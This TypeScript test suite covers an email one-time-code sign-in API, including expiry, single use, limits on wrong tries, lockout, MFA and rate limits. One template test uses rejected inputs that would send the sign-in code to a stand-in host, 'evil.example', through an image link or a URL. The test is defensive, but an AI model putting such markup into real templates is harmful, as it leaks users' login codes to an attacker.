import { expect } from 'chai';
import { Types } from 'mongoose';
import type { TestContext } from '../helpers/context.js';
import { bearer, PASSWORD, uniqueEmail } from '../auth/helpers.js';
import { awayFromStepEdge, currentStep, totpAt } from '../mfa/helpers.js';
import { startSmtpSink, type ReceivedMail, type SmtpSink } from '../mail/smtp-sink.js';
import {
  addApplication,
  createMailContext,
  deliveriesTo,
  member,
  systemTemplateOf,
  tenant,
  waitForDelivery,
  type Member,
  type Tenant,
} from '../mail/template-helpers.js';

const SHOP = 'https://shop.example.com';

/** The code of a sign-in mail: the line of the text part that is six digits and nothing else. */
function codeIn(delivered: ReceivedMail): string {
  const code = /^\s*(\d{6})\s*$/m.exec(delivered.mail.text ?? '')?.[1];
  expect(code, `a code in:\n${delivered.mail.text}`).to.be.a('string');
  return code!;
}

/** A code that is not `code` (for wrong tries); different offsets give different codes. */
const otherThan = (code: string, offset = 1) => String((Number(code) + offset) % 1_000_000).padStart(6, '0');

/**
 * Sign-in with an e-mail one-time code (issue #31): POST /api/auth/email-code and
 * /api/auth/email-code/verify, with mail going through a real SMTP server.
 */
describe('embedding API: sign-in with an e-mail code (/api/auth/email-code)', function () {
  this.timeout(60_000);
  let sink: SmtpSink;
  let ctx: TestContext;
  let owner: Member;
  let shop: Tenant;
  /** Another application of the shop's project: the same pool. */
  let shopApp: string;
  /** Another organization's project and application: another pool. */
  let foreign: Tenant;

  const app = (id = shop.application) => ({ 'X-Application-ID': id, Origin: SHOP });
  const requestCode = (email: string, application = shop.application) =>
    ctx.request.post('/api/auth/email-code').set(app(application)).send({ email });
  const verify = (email: string, code: string, application = shop.application) =>
    ctx.request.post('/api/auth/email-code/verify').set(app(application)).send({ email, code });
  const profiles = () => ctx.database.connection.collection('profiles');
  const codes = () => ctx.database.connection.collection('auth_email_codes');
  const sessions = () => ctx.database.connection.collection('auth_sessions');

  /** Waits until the work after the responses (lookups, mails) is done. */
  const settled = () => ctx.services.auth.drain();

  /** The newest sign-in mail to `email` after `before` deliveries to it. */
  async function codeMail(email: string, before = 0): Promise<ReceivedMail> {
    await settled();
    return waitForDelivery(
      sink,
      email,
      (entry) => deliveriesTo(sink, email.toLowerCase()).indexOf(entry) >= before && isCodeMail(entry),
    );
  }
  const isCodeMail = (entry: ReceivedMail) =>
    /Anmeldecode|sign-in code|Shop-Code/.test(entry.mail.subject ?? '');
  const codeMailsTo = (email: string) => deliveriesTo(sink, email.toLowerCase()).filter(isCodeMail);

  /** Requests a code and reads it from the mail. */
  async function freshCode(email: string, application = shop.application): Promise<string> {
    const before = deliveriesTo(sink, email.toLowerCase()).length;
    await requestCode(email, application).expect(202);
    return codeIn(await codeMail(email, before));
  }

  /** An end user of the application's pool; confirmed through the link in the confirmation mail. */
  async function endUser(
    application = shop.application,
    options: { confirmed?: boolean; email?: string } = {},
  ) {
    const email = options.email ?? uniqueEmail('codeuser');
    const registered = await ctx.request
      .post('/api/auth/register')
      .set(app(application))
      .send({ email, password: PASSWORD })
      .expect(201);
    const id = registered.body.user.id as string;
    if (options.confirmed ?? true) {
      await settled();
      const mail = await waitForDelivery(sink, email, (entry) =>
        /confirm|bestätigen/i.test(entry.mail.subject ?? ''),
      );
      const link = (mail.mail.text ?? '')
        .match(/https?:\/\/[^\s)>"]+/g)
        ?.find((url) => url.includes('/auth/confirm'));
      expect(link, 'a confirmation link').to.be.a('string');
      const url = new URL(link!);
      await ctx.request.get(`${url.pathname}${url.search}`).expect(303);
    }
    return { email, id };
  }

  before(async () => {
    sink = await startSmtpSink();
    ctx = await createMailContext(sink);
    owner = await member(ctx, 'codeowner');
    shop = await tenant(ctx, owner, 'Shop');
    await ctx.request
      .patch(`/api/v1/applications/${shop.application}`)
      .set(owner.auth)
      .send({ allowed_origins: [SHOP] })
      .expect(200);
    shopApp = await addApplication(ctx, owner, shop.project, 'App');
    await ctx.request
      .patch(`/api/v1/applications/${shopApp}`)
      .set(owner.auth)
      .send({ allowed_origins: [SHOP] })
      .expect(200);
    const stranger = await member(ctx, 'codestranger');
    foreign = await tenant(ctx, stranger, 'Foreign');
    await ctx.request
      .patch(`/api/v1/applications/${foreign.application}`)
      .set(stranger.auth)
      .send({ allowed_origins: [SHOP] })
      .expect(200);
  });
  after(async () => {
    await ctx?.close();
    await sink?.close();
  });

  describe('the happy path', () => {
    it('mails a 6-digit code (stored hashed, 10 minutes) that signs in once with the application’s session', async () => {
      const user = await endUser();
      const response = await requestCode(user.email).expect(202);
      expect(response.body).to.deep.equal({
        success: true,
        message:
          'If an account with this address exists here, we have sent it a sign-in code. It is valid for 10 minutes.',
      });
      expect(response.headers['access-control-allow-origin']).to.equal(SHOP);

      const delivered = await codeMail(user.email);
      const code = codeIn(delivered);
      expect(code).to.match(/^\d{6}$/);
      expect(delivered.mail.subject).to.equal('Ihr Anmeldecode');
      expect(delivered.mail.subject).not.to.contain(code);
      expect(delivered.mail.html).to.contain(code);
      expect(delivered.mail.text).to.contain('10 Minuten gültig');
      expect(delivered.mail.text).to.contain('Wenn Sie das nicht waren, ignorieren Sie diese E-Mail.');

      const stored = await codes().findOne({ user_id: new Types.ObjectId(user.id) });
      expect(stored).to.include({ pool_id: shop.project, attempts: 0, used_at: null });
      expect(stored!.code_hash).to.match(/^[0-9a-f]{64}$/);
      expect(JSON.stringify(stored)).not.to.contain(`"${code}"`);
      const lifetime = (stored!.expires_at as Date).getTime() - (stored!.created_at as Date).getTime();
      expect(lifetime).to.equal(600_000);

      // Typed as people copy it from a mail: with a space in the middle.
      const signedIn = await verify(user.email, `${code.slice(0, 3)} ${code.slice(3)}`).expect(200);
      expect(signedIn.headers['access-control-allow-origin']).to.equal(SHOP);
      expect(signedIn.body).to.have.all.keys('token', 'refresh_token', 'expires_at', 'user');
      expect(signedIn.body.user).to.include({ id: user.id, email: user.email, is_verified: true });
      const checked = await ctx.request
        .post('/api/auth/verify')
        .set(app())
        .set(bearer(signedIn.body.token))
        .expect(200);
      expect(checked.body.application_id).to.equal(shop.application);
      const session = await sessions().findOne(
        { user_id: new Types.ObjectId(user.id) },
        { sort: { _id: -1 } },
      );
      expect(session).to.include({ method: 'email_code', pool_id: shop.project });
      expect(String(session!.application_id)).to.equal(shop.application);

      // Single use.
      const again = await verify(user.email, code).expect(401);
      expect(again.body.code).to.equal('invalid_email_code');
      expect(again.body.error).to.match(/wrong, has expired .* or was already used/);
    });

    it('lets another application of the same project (the same pool) redeem the code', async () => {
      const user = await endUser();
      const code = await freshCode(user.email);
      const response = await verify(user.email, code, shopApp).expect(200);
      expect(response.body.user.id).to.equal(user.id);
    });

    it('confirms the address of an unconfirmed account and removes a password set without that proof', async () => {
      // Anyone may register an address with a password of their choosing; the code proves the mailbox.
      const user = await endUser(shop.application, { confirmed: false });
      const registrant = await ctx.request
        .post('/api/auth/login')
        .set(app())
        .send({ email: user.email, password: PASSWORD })
        .expect(200);
      const code = await freshCode(user.email);
      const response = await verify(user.email, code).expect(200);
      expect(response.body.user.is_verified).to.equal(true);
      expect((await profiles().findOne({ _id: new Types.ObjectId(user.id) }))!).to.include({
        is_verified: true,
        password_hash: null,
      });
      // The registrant's password and session are gone; the mailbox owner's new session works.
      await ctx.request
        .post('/api/auth/login')
        .set(app())
        .send({ email: user.email, password: PASSWORD })
        .expect(401);
      await ctx.request.post('/api/auth/verify').set(app()).set(bearer(registrant.body.token)).expect(401);
      await ctx.request.post('/api/auth/verify').set(app()).set(bearer(response.body.token)).expect(200);
    });

    it('uses the application’s customized template', async () => {
      const template = await systemTemplateOf(ctx, owner, shop.application, 'email_code', 'de');
      expect(template.variables).to.have.members(['name', 'signInCode']);
      // The code is a secret: it may not leave through a link or the subject.
      for (const unsafe of [
        { subject: 'Ihr Code: {{signInCode}}' },
        { html_content: '<p><img src="https://evil.example/?c={{signInCode}}"></p>' },
        { html_content: '<p>https://evil.example/?c={{signInCode}}</p>' },
        { html_content: '<p>Hallo {{name}}, ohne Code.</p>' },
      ])
        await ctx.request
          .patch(`/api/v1/email-templates/${template.id}`)
          .set(owner.auth)
          .send(unsafe)
          .expect(400);
      await ctx.request
        .patch(`/api/v1/email-templates/${template.id}`)
        .set(owner.auth)
        .send({
          subject: 'Ihr Shop-Code',
          html_content: '<p>Hallo {{name}}, Ihr Code für den Shop:</p><p>{{signInCode}}</p>',
        })
        .expect(200);
      try {
        const user = await endUser();
        const before = deliveriesTo(sink, user.email.toLowerCase()).length;
        await requestCode(user.email).expect(202);
        const delivered = await codeMail(user.email, before);
        expect(delivered.mail.subject).to.equal('Ihr Shop-Code');
        expect(delivered.mail.text).to.contain('Ihr Code für den Shop');
        await verify(user.email, codeIn(delivered)).expect(200);
      } finally {
        await ctx.request.post(`/api/v1/email-templates/${template.id}/reset`).set(owner.auth).expect(200);
      }
    });
  });

  describe('refusals', () => {
    it('answers unknown addresses exactly like known ones: 202, no mail, no account', async () => {
      const known = await endUser();
      const email = uniqueEmail('nobody');
      const [unknownAnswer, knownAnswer] = await Promise.all([requestCode(email), requestCode(known.email)]);
      expect(unknownAnswer.status).to.equal(202);
      expect(unknownAnswer.body).to.deep.equal(knownAnswer.body);
      await codeMail(known.email);
      await settled();
      expect(deliveriesTo(sink, email)).to.have.length(0);
      expect(await profiles().countDocuments({ email })).to.equal(0);
      const wrong = await verify(email, '123456').expect(401);
      expect(wrong.body.code).to.equal('invalid_email_code');
    });

    it('answers 403 sign_in_method_disabled when the pool does not offer it, and sends nothing', async () => {
      const closed = await tenant(ctx, owner, 'Closed');
      await ctx.request
        .patch(`/api/v1/applications/${closed.application}`)
        .set(owner.auth)
        .send({ allowed_origins: [SHOP] })
        .expect(200);
      const user = await endUser(closed.application, { confirmed: false });
      await ctx.request
        .patch(`/api/v1/projects/${closed.project}/pool`)
        .set(owner.auth)
        .send({ methods: ['password'] })
        .expect(200);
      const headers = app(closed.application);
      const refused = await ctx.request
        .post('/api/auth/email-code')
        .set(headers)
        .send({ email: user.email })
        .expect(403);
      expect(refused.body.code).to.equal('sign_in_method_disabled');
      const verifyRefused = await ctx.request
        .post('/api/auth/email-code/verify')
        .set(headers)
        .send({ email: user.email, code: '123456' })
        .expect(403);
      expect(verifyRefused.body.code).to.equal('sign_in_method_disabled');
      await settled();
      expect(codeMailsTo(user.email)).to.have.length(0);
      expect(await codes().countDocuments({ user_id: new Types.ObjectId(user.id) })).to.equal(0);
    });

    it('voids a code after 5 wrong tries: the right one no longer works', async () => {
      const user = await endUser();
      const code = await freshCode(user.email);
      for (let attempt = 1; attempt <= 5; attempt += 1) {
        const wrong = await verify(user.email, otherThan(code)).expect(401);
        expect(wrong.body.code).to.equal('invalid_email_code');
      }
      expect((await codes().findOne({ user_id: new Types.ObjectId(user.id) }))!.attempts).to.equal(5);
      await verify(user.email, code).expect(401);
      // A new code works again.
      await verify(user.email, await freshCode(user.email)).expect(200);
    });

    it('accepts the right code after 4 wrong tries, and counts parallel guesses once each', async () => {
      const user = await endUser();
      const code = await freshCode(user.email);
      const answers = await Promise.all(
        Array.from({ length: 8 }, (_, index) => verify(user.email, otherThan(code, index + 1))),
      );
      expect(answers.map((answer) => answer.status)).to.deep.equal(Array(8).fill(401));
      // Eight tries at once spent at most the five the code has.
      expect((await codes().findOne({ user_id: new Types.ObjectId(user.id) }))!.attempts).to.equal(5);

      const second = await endUser();
      const secondCode = await freshCode(second.email);
      for (let attempt = 1; attempt <= 4; attempt += 1)
        await verify(second.email, otherThan(secondCode)).expect(401);
      await verify(second.email, secondCode).expect(200);
    });

    it('refuses an expired code', async () => {
      const user = await endUser();
      const code = await freshCode(user.email);
      await codes().updateOne(
        { user_id: new Types.ObjectId(user.id) },
        { $set: { expires_at: new Date(Date.now() - 1000) } },
      );
      const expired = await verify(user.email, code).expect(401);
      expect(expired.body.code).to.equal('invalid_email_code');
    });

    it('replaces the previous code with a new request', async () => {
      const user = await endUser();
      const first = await freshCode(user.email);
      const second = await freshCode(user.email);
      expect(await codes().countDocuments({ user_id: new Types.ObjectId(user.id) })).to.equal(1);
      if (first !== second) await verify(user.email, first).expect(401);
      await verify(user.email, second).expect(200);
    });

    it('does not let another pool’s application use the code, not even for the same address there', async () => {
      const user = await endUser();
      // The same address has its own account in the other pool.
      const twin = await endUser(foreign.application, { email: user.email, confirmed: false });
      expect(twin.id).not.to.equal(user.id);
      const code = await freshCode(user.email);
      const refused = await verify(user.email, code, foreign.application).expect(401);
      expect(refused.body.code).to.equal('invalid_email_code');
      expect(
        await sessions().countDocuments({
          user_id: { $in: [new Types.ObjectId(user.id), new Types.ObjectId(twin.id)] },
          method: 'email_code',
        }),
      ).to.equal(0);
      // It still works where it was issued (the other pool's tries spent none of its own).
      expect((await verify(user.email, code).expect(200)).body.user.id).to.equal(user.id);
    });

    it('refuses blocked accounts: no code is sent, and a code sent before the block answers 403 account_blocked', async () => {
      const blocked = await endUser();
      await profiles().updateOne(
        { _id: new Types.ObjectId(blocked.id) },
        { $set: { blocked_at: new Date() } },
      );
      await requestCode(blocked.email).expect(202);
      await settled();
      expect(codeMailsTo(blocked.email)).to.have.length(0);

      const later = await endUser();
      const code = await freshCode(later.email);
      await profiles().updateOne({ _id: new Types.ObjectId(later.id) }, { $set: { blocked_at: new Date() } });
      const refused = await verify(later.email, code).expect(403);
      expect(refused.body.code).to.equal('account_blocked');
      expect(
        await sessions().countDocuments({ user_id: new Types.ObjectId(later.id), method: 'email_code' }),
      ).to.equal(0);
    });

    it('answers 400 for a request without a code or address', async () => {
      await ctx.request
        .post('/api/auth/email-code/verify')
        .set(app())
        .send({ email: 'a@example.com' })
        .expect(400);
      await ctx.request.post('/api/auth/email-code').set(app()).send({}).expect(400);
      await ctx.request.post('/api/auth/email-code').send({ email: 'a@example.com' }).expect(400);
    });
  });

  describe('an account with a second factor', () => {
    it('answers mfa_required; the second step opens a session that records the e-mail code', async () => {
      const user = await endUser();
      const signedIn = await ctx.request
        .post('/api/auth/login')
        .set(app())
        .send({ email: user.email, password: PASSWORD })
        .expect(200);
      const started = await ctx.request
        .post('/api/v1/auth/mfa/totp')
        .set(bearer(signedIn.body.token))
        .expect(200);
      const secret = started.body.secret as string;
      await awayFromStepEdge();
      await ctx.request
        .post('/api/v1/auth/mfa/totp/confirm')
        .set(bearer(signedIn.body.token))
        .send({ code: totpAt(secret, currentStep()) })
        .expect(200);

      const code = await freshCode(user.email);
      const first = await verify(user.email, code).expect(200);
      expect(first.body).to.have.all.keys('mfa_required', 'mfa_token', 'methods', 'expires_in');
      expect(first.body.methods).to.deep.equal(['totp']);
      await awayFromStepEdge();
      const second = await ctx.request
        .post('/api/auth/mfa/challenge')
        .set(app())
        .send({ mfa_token: first.body.mfa_token, code: totpAt(secret, currentStep() + 1) })
        .expect(200);
      expect(second.body.user.id).to.equal(user.id);
      const session = await sessions().findOne(
        { user_id: new Types.ObjectId(user.id) },
        { sort: { _id: -1 } },
      );
      expect(session!.method).to.equal('email_code');
    });
  });

  describe('guessing', () => {
    it('counts wrong codes towards the sign-in lockout of the address (password sign-in included)', async () => {
      const user = await endUser();
      const code = await freshCode(user.email);
      const threshold = ctx.config.auth.lockoutThreshold;
      let status = 401;
      for (let attempt = 0; attempt < threshold + 1 && status === 401; attempt += 1)
        status = (await verify(user.email, otherThan(code))).status;
      expect(status).to.equal(429);
      const locked = await verify(user.email, code).expect(429);
      expect(locked.body.code).to.equal('account_locked');
      expect(Number(locked.headers['retry-after'])).to.be.above(0);
      await ctx.request
        .post('/api/auth/login')
        .set(app())
        .send({ email: user.email, password: PASSWORD })
        .expect(429);
    });
  });
});

describe('embedding API: rate limits of /api/auth/email-code', function () {
  this.timeout(30_000);
  let sink: SmtpSink;
  let ctx: TestContext;
  let shop: Tenant;

  before(async () => {
    sink = await startSmtpSink();
    ctx = await createMailContext(sink, { RATE_LIMIT_PER_ACCOUNT: '3' });
    const owner = await member(ctx, 'limitowner');
    shop = await tenant(ctx, owner, 'Limits');
  });
  after(async () => {
    await ctx?.close();
    await sink?.close();
  });

  it('limits code requests per address (whether or not it has an account)', async () => {
    const email = uniqueEmail('limited');
    const send = () =>
      ctx.request.post('/api/auth/email-code').set('X-Application-ID', shop.application).send({ email });
    for (let index = 0; index < 3; index += 1) await send().expect(202);
    await send().expect(429);
    // Another address is not affected.
    await ctx.request
      .post('/api/auth/email-code')
      .set('X-Application-ID', shop.application)
      .send({ email: uniqueEmail('other') })
      .expect(202);
  });
});
